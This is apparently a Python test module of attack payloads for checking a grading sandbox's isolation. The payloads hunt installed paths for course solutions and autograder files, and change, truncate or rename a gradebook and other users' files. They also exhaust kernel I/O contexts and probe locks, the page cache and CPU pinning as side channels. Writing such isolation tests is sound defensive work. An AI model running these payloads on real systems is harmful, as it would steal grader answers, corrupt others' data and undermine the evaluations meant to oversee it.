"""Attacks that came from outside: what the file system, the kernel and stand-ins gave away."""

from attacks.attack import Attack

# Tells whatever of the course or of the grader it can reach, wherever that is installed.
FINDS_THE_COURSE = """
import os, sys, glob
def loot():
    found = []
    places = [path for path in sys.path if path] + ["@REPO@"]
    places += glob.glob("/usr/lib*/python3*/*-packages") + glob.glob("/usr/local/lib/python3*/*-packages")
    for place in places:
        for name in ("autograder/course/lesson_1/reparameterize.py", "bvae_ref/layers.py",
                     "autograder/course/solutions.json", "solutions/lesson_1/lesson_1.ipynb"):
            try:
                found.append(open(os.path.join(place, name)).read()[:400])
            except OSError:
                pass
    if found:
        return "SECRET_COURSE " + "".join(found)
    return "nothing"
"""

STATS = """
import os
def loot():
    for path in ("@CANARY@/course.py", "@GRADEBOOK@", "@NEIGHBOUR@", "@REPO@/solutions"):
        try:
            return f"SECRET_SIZE {os.stat(path).st_size}"
        except OSError:
            pass
    return "nothing"
"""

CHANGES_METADATA = """
import os
for path in ("@CANARY@/course.py", "@CANARY@", "@GRADEBOOK@", "@NEIGHBOUR@"):
    for step in (
        lambda: os.chmod(path, 0o600), lambda: os.chmod(path, 0),
        lambda: os.utime(path, (1, 1)), lambda: os.chown(path, os.getuid(), os.getgid()),
        lambda: os.chown(path, 12345, 12345), lambda: os.setxattr(path, "user.x", b"1"),
        lambda: os.truncate(path, 1), lambda: os.rename(path, path + "x"),
    ):
        try:
            step()
        except OSError:
            pass
"""

TAKES_CONTEXTS = """
import ctypes
libc = ctypes.CDLL(None)
taken = 0
context = ctypes.c_ulong(0)
while taken < 100000 and libc.syscall(206, 1000, ctypes.byref(context)) == 0:
    context = ctypes.c_ulong(0)
    taken += 1
def loot():
    return f"SECRET_CONTEXTS {taken}" if taken else "none"
"""

LOCKS = """
import fcntl, os, sys
def loot():
    path = os.__file__
    with open(path) as file:
        for step in (
            lambda: fcntl.lockf(file, fcntl.LOCK_SH, 1, 1 << 40),
            lambda: fcntl.flock(file, fcntl.LOCK_SH),
            lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK),
            lambda: fcntl.fcntl(file, fcntl.F_NOTIFY, 1),
        ):
            try:
                step()
            except OSError:
                continue
            return "SECRET_LOCK"
    return "nothing"
"""

PAGE_CACHE = """
import os
def loot():
    file = os.open(os.__file__, os.O_RDONLY)
    for step in (
        lambda: os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED),
        lambda: os.preadv(file, [bytearray(10)], 0, os.RWF_NOWAIT),
    ):
        try:
            step()
        except OSError:
            continue
        return "SECRET_PAGE_CACHE"
    return "nothing"
"""

PINS = """
import os
def loot():
    try:
        os.sched_setaffinity(0, {0})
    except OSError:
        return "nothing"
    return "SECRET_PIN"
"""

ATTACKS = [
    Attack("finds an installed course", FINDS_THE_COURSE),
    Attack("learns the sizes of others' files", STATS),
    Attack("changes modes, times and owners of others' files", CHANGES_METADATA),
    Attack("takes all asynchronous contexts", TAKES_CONTEXTS),
    Attack("locks and leases shared files", LOCKS),
    Attack("signals through the page cache", PAGE_CACHE),
    Attack("pins itself to a processor", PINS),
]
